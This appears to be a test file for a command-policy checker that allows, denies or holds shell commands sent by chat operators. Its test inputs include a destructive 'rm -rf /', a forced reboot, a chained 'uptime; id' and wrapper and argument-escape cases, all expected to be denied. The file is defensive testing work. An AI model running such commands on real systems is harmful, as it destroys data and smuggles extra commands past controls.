test("loadPolicy: reads a file; missing or non-JSON files are named in the error", async () => {
  const dir = await Deno.makeTempDir();
  try {
    const good = `${dir}/p.json`;
    await Deno.writeTextFile(good, JSON.stringify({ mode: "allowlist", allow: ["uptime"] }));
    const p = await loadPolicy(good);
    assert.equal(p.mode, "allowlist");
    assert.equal(p.source, good);
    await assert.rejects(
      () => loadPolicy(`${dir}/none.json`),
      /policy file .*none.json: cannot be read: not found/,
    );
    await Deno.writeTextFile(`${dir}/bad.json`, "{mode: allowlist");
    await assert.rejects(
      () => loadPolicy(`${dir}/bad.json`),
      /policy file .*bad.json: not valid JSON/,
    );
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

// ------------------------------------------------------------ policyCommand

/** Runs policyCommand in-process, capturing what it prints. */
async function run(args: string[]): Promise<{ code: number; out: string; err: string }> {
  const out: string[] = [];
  const err: string[] = [];
  const { log, error } = console;
  console.log = (...a: unknown[]) => out.push(a.join(" "));
  console.error = (...a: unknown[]) => err.push(a.join(" "));
  try {
    const code = await policyCommand(args);
    return { code, out: out.join("\n"), err: err.join("\n") };
  } finally {
    console.log = log;
    console.error = error;
  }
}

test("policy check: exit 0 and the rule for an allowed command", async () => {
  const { root, bin } = await makeBinDir(false);
  try {
    const r = await run(["check", "--bin-dir", bin, "df -h"]);
    assert.equal(r.code, 0);
    assert.match(r.out, /verdict: allow\nrule: +allow.default/);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

test("policy check: exit 1 with rule and reason for a denied command, also unquoted", async () => {
  const { root, bin } = await makeBinDir(false);
  try {
    const r = await run(["check", `--bin-dir=${bin}`, "systemctl", "--force", "reboot"]);
    assert.equal(r.code, 1);
    assert.match(r.out, /verdict: deny\nrule: +deny.power\nreason: .*systemctl reboot/);
    assert.equal((await run(["check", "--bin-dir", bin, "--", "rm -rf /"])).code, 1);
    assert.match((await run(["check", "--bin-dir", bin, "uptime; id"])).out, /deny.parse/);
    assert.match((await run(["check", "--bin-dir", bin, "nosuch"])).out, /deny.resolve/);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

test("policy check: the bin dir comes from TIBET_NC_BIN_DIR when --bin-dir is absent", async () => {
  const { root, bin } = await makeBinDir(false);
  try {
    // Its own process: the environment is shared by test files running in parallel.
    const r = await runMain(["policy", "check", "uptime"], { env: { TIBET_NC_BIN_DIR: bin } });
    assert.equal(r.code, 0, r.stderr);
    const none = await runMain(["policy", "check", "uptime"], {
      env: { TIBET_NC_BIN_DIR: `${root}/none` },
    });
    assert.equal(none.code, 2);
    assert.match(none.stderr, /bin dir .*\/none does not exist/);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

test("policy check: a policy file is applied", async () => {
  const { root, bin } = await makeBinDir(false);
  try {
    const file = `${root}/policy.json`;
    await Deno.writeTextFile(file, JSON.stringify({ mode: "allowlist", allow: ["uptime"] }));
    assert.equal((await run(["check", "--bin-dir", bin, "--policy", file, "uptime"])).code, 0);
    const r = await run(["check", "--bin-dir", bin, "--policy", file, "df -h"]);
    assert.equal(r.code, 1);
    assert.match(r.out, /deny.not-allowlisted/);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

test("approve: held commands are a third verdict; per-operator rules apply to their operators only", async () => {
  const { root, bin } = await makeBinDir(false);
  try {
    const file = `${root}/policy.json`;
    const junior = "@junior:example.org";
    await Deno.writeTextFile(
      file,
      JSON.stringify({
        mode: "denylist",
        approve: ["systemctl restart *"],
        operators: [{
          users: [junior],
          mode: "allowlist",
          allow: ["systemctl status *", "journalctl **"],
          approve: ["ls **"],
        }],
      }),
    );
    const policy = await loadPolicy(file);
    const v = await checkCommand("systemctl restart nginx", bin, policy);
    assert.deepEqual([v.verdict, v.rule], ["approve", "approve.policy:systemctl restart *"]);
    // Built-in denials stay unapprovable, whatever the lists say.
    assert.equal((await checkCommand("systemctl reboot", bin, policy)).rule, "deny.power");
    assert.equal((await checkCommand("ls /tmp", bin, policy)).verdict, "allow");
    assert.equal((await checkCommand("ls /tmp", bin, policy, junior)).verdict, "approve");
    assert.equal((await checkCommand("journalctl -n 5", bin, policy, junior)).verdict, "allow");
    assert.equal((await checkCommand("df -h", bin, policy, junior)).rule, "deny.not-allowlisted");
    assert.equal((await checkCommand("ps aux | ls", bin, policy, junior)).verdict, "deny");
    assert.equal((await checkCommand("ls / | grep x", bin, policy)).verdict, "allow");

    const held = await run(["check", "--bin-dir", bin, "--policy", file, "systemctl restart x"]);
    assert.equal(held.code, 3, held.out);
    assert.match(held.out, /verdict: approve/);
    const as = await run(["check", "--bin-dir", bin, "--policy", file, "--as", junior, "df -h"]);
    assert.equal(as.code, 1);
    assert.equal(
      (await run(["check", "--bin-dir", bin, "--policy", file, "--as", "nobody", "ls"])).code,
      2,
    );
    for (
      const [doc, why] of [
        [{ mode: "denylist", operators: {} }, /"operators" must be an array/],
        [{ mode: "denylist", operators: [{ users: [] }] }, /non-empty array/],
        [{ mode: "denylist", operators: [{ users: ["bob"] }] }, /not a Matrix user id/],
        [{ mode: "denylist", operators: [{ users: [junior], colour: 1 }] }, /unknown key "colour"/],
        [{ mode: "denylist", approve: ["*"] }, /first word must be a program/],
      ] as const
    ) assert.throws(() => strict(doc), why);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

test("policy check: exit 2 with one clear stderr line for usage and config errors", async () => {
  const { root, bin } = await makeBinDir(false);
  try {
    const bad = `${root}/bad.json`;
    await Deno.writeTextFile(bad, JSON.stringify({ mode: "allowlist", colour: "red" }));
    const cases: Array<[string[], RegExp]> = [
      [
        ["check", "--bin-dir", "/nonexistent/bin", "uptime"],
        /bin dir \/nonexistent\/bin does not exist/,
      ],
      [
        ["check", "--bin-dir", bin, "--policy", bad, "uptime"],
        /policy file .*bad.json: unknown key "colour"/,
      ],
      [
        ["check", "--bin-dir", bin, "--policy", `${root}/none.json`, "uptime"],
        /cannot be read: not found/,
      ],
      [["check", "--bin-dir", bin], /no command given/],
      [["check", "--frobnicate", "uptime"], /unknown argument "--frobnicate"/],
      [["check", "--bin-dir"], /--bin-dir needs a value/],
      [["check", "--json", "/tmp/x"], /use "--json -"/],
      [["check", "--json", "-", "uptime"], /either a command or --json -/],
      [["frob"], /unknown subcommand "frob"/],
    ];
    for (const [args, re] of cases) {
      const r = await run(args);
      assert.equal(r.code, 2, args.join(" "));
      assert.match(r.err, re);
      assert.equal(r.err.split("\n").length, 1, r.err);
      assert.doesNotMatch(r.err, /at .*\.ts:\d+/); // no stack trace
    }
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

test("policy check: --help prints the usage and exits 0", async () => {
  for (const args of [["--help"], ["check", "--help"], ["help"]]) {
    const r = await run(args);
    assert.equal(r.code, 0);
    assert.match(r.out, /usage: tibet-nc policy check/);
    assert.match(r.out, /--json -/);
  }
});

test("policy check --json -: one JSON line per stdin line, in order, blank ones too (subprocess)", async () => {
  const { root, bin } = await makeBinDir(false);
  try {
    const script = `${root}/cli.ts`;
    const cli = new URL("../lib/cli/policy.ts", import.meta.url).href;
    await Deno.writeTextFile(
      script,
      `import { policyCommand } from ${
        JSON.stringify(cli)
      };\nDeno.exit(await policyCommand(Deno.args));\n`,
    );
    const child = new Deno.Command(Deno.execPath(), {
      args: [
        "run",
        "--config",
        new URL("../deno.json", import.meta.url).pathname,
        "--allow-read",
        "--allow-env",
        script,
        "check",
        "--bin-dir",
        bin,
        "--json",
        "-",
      ],
      stdin: "piped",
      stdout: "piped",
      stderr: "piped",
    }).spawn();
    const writer = child.stdin.getWriter();
    // A blank line is answered too, and a last line needs no newline.
    await writer.write(new TextEncoder().encode("df -h\nreboot\n\nuptime; id\r\n  \nenv reboot"));
    await writer.close();
    const { code, stdout, stderr } = await child.output();
    assert.equal(code, 0, new TextDecoder().decode(stderr));
    const lines = new TextDecoder().decode(stdout).trim().split("\n").map((l) => JSON.parse(l));
    assert.deepEqual(
      lines.map((l) => [l.command, l.verdict, l.rule]),
      [
        ["df -h", "allow", "allow.default"],
        ["reboot", "deny", "deny.power"],
        ["", "deny", "deny.parse"],
        ["uptime; id", "deny", "deny.parse"],
        ["  ", "deny", "deny.parse"],
        ["env reboot", "deny", "deny.wrapper"],
      ],
    );
    for (const l of lines) assert.equal(typeof l.reason, "string");
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

test("argument rules are data: doctor's escape notes come from the rules the judge runs", () => {
  // gawk is watched by the awk rule under its own name, and through a link.
  assert.match(argumentEscapes(["gawk"]).join("\n"), /deny\.escape\.awk/);
  assert.match(argumentEscapes(["mytool", "sort"]).join("\n"), /--compress-program/);
  assert.deepEqual(argumentEscapes(["ls"]), []);
  // Every escape note ends with the rule id the operator sees in a refusal.
  for (const rule of ARG_RULES.filter((r) => r.escape !== undefined)) {
    assert.ok(rule.programs.length > 0, `${rule.id}: an escape note needs its programs`);
    assert.match(rule.escape!, /\(deny\.[a-z.-]+\)$/, rule.id);
  }
  const ids = new Set(ARG_RULES.map((r) => r.id));
  for (const id of ["deny.escape.awk", "deny.escape.sed", "deny.escape.git", "deny.power"]) {
    assert.ok(ids.has(id), id);
  }
});
